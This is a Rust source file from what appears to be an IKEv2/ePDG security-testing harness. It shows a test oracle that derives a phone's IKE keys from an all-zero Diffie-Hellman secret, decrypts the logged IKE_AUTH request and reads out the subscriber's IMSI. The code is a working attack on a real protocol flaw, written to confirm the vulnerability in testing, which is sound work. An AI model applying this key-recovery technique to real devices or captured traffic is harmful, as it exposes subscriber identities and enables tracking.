//! The zero-DH attacker harness: rebuild the UE's key bundle from public
//! log material alone and read the identity out of the first IKE_AUTH.

use crate::crypto::{derive_ike_keys, zero_shared_secret, KeyLengths, TransformId, TransformKind};
use crate::ike::{open_message, parse_message, payload_type, Payload, SaCrypto};
use crate::testcase::{LogRecord, Receiver};

use super::OracleError;

fn find_message<'a>(records: &'a [LogRecord], sender: Receiver, name: &str) -> Option<Vec<u8>> {
    records.iter().find_map(|r| {
        let m = r.message()?;
        if m.sender == sender && m.name.as_deref() == Some(name) {
            m.wire_bytes()
        } else {
            None
        }
    })
}

/// Recover the IMSI from a run in which the IKE_SA_INIT response carried no
/// key-exchange payload and the UE continued anyway. Everything used here is
/// attacker-observable: the two plaintext SA_INIT messages and the encrypted
/// IKE_AUTH request.
pub fn recover_imsi_zero_dh(records: &[LogRecord]) -> Result<String, OracleError> {
    let request = find_message(records, Receiver::Ue, "ike_sa_init_request")
        .ok_or(OracleError::MalformedLog("no ike_sa_init_request in log"))?;
    let response_bytes = records
        .iter()
        .find_map(|r| {
            let m = r.message()?;
            if m.sender == Receiver::Epdg && m.name.as_deref() == Some("ike_sa_init_response") {
                m.wire_bytes()
            } else {
                None
            }
        })
        .ok_or(OracleError::MalformedLog("no ike_sa_init_response in log"))?;
    let auth = find_message(records, Receiver::Ue, "ike_auth_1_request")
        .ok_or(OracleError::MalformedLog("no ike_auth_1_request in log"))?;

    let request = parse_message(&request).map_err(|_| OracleError::MalformedLog("bad request hex"))?;
    let response =
        parse_message(&response_bytes).map_err(|_| OracleError::MalformedLog("bad response hex"))?;
    if response.payload(payload_type::KE).is_some() {
        return Err(OracleError::MalformedLog("response carries a KE payload; not the zero-DH case"));
    }

    let ni = match request.payload(payload_type::NONCE) {
        Some(Payload::Nonce(n)) => n.clone(),
        _ => return Err(OracleError::MalformedLog("request has no nonce")),
    };
    let group = match request.payload(payload_type::KE) {
        Some(Payload::Ke { group, .. }) => TransformId::new(TransformKind::Dh, *group)
            .ok_or(OracleError::MalformedLog("unknown DH group in request"))?,
        _ => return Err(OracleError::MalformedLog("request has no KE payload")),
    };
    let nr = match response.payload(payload_type::NONCE) {
        Some(Payload::Nonce(n)) => n.clone(),
        _ => vec![0u8; 16],
    };
    let (encr, prf, integ) = match response.payload(payload_type::SA) {
        Some(Payload::Sa(props)) if !props.is_empty() => {
            let find = |kind: u8| props[0].transforms.iter().find(|t| t.kind == kind).map(|t| t.id);
            let encr = find(1)
                .and_then(|id| TransformId::new(TransformKind::Encr, id))
                .ok_or(OracleError::MalformedLog("no usable ENCR in chosen SA"))?;
            let prf = find(2)
                .and_then(|id| TransformId::new(TransformKind::Prf, id))
                .ok_or(OracleError::MalformedLog("no usable PRF in chosen SA"))?;
            let integ = find(3)
                .and_then(|id| TransformId::new(TransformKind::Integ, id))
                .ok_or(OracleError::MalformedLog("no usable INTEG in chosen SA"))?;
            (encr, prf, integ)
        }
        _ => return Err(OracleError::MalformedLog("response has no SA payload")),
    };

    // the whole point: the shared secret is all zeros of the group length
    let shared = zero_shared_secret(group).expect("registered group");
    let keys = derive_ike_keys(
        prf,
        &ni,
        &nr,
        &shared,
        &request.header.spi_i,
        &response.header.spi_r,
        KeyLengths::for_transforms(encr, integ, prf),
    )
    .expect("nonces non-empty");

    let auth = parse_message(&auth).map_err(|_| OracleError::MalformedLog("bad ike_auth hex"))?;
    let sa = SaCrypto { encr, integ, keys };
    let opened = open_message(&auth, &sa, true)
        .map_err(|_| OracleError::MalformedLog("zero-secret bundle did not decrypt the IKE_AUTH"))?;
    match opened.payload(payload_type::ID_I) {
        Some(Payload::IdI(id)) => Ok(String::from_utf8_lossy(&id.data).to_string()),
        _ => Err(OracleError::MalformedLog("decrypted IKE_AUTH has no IDi")),
    }
}
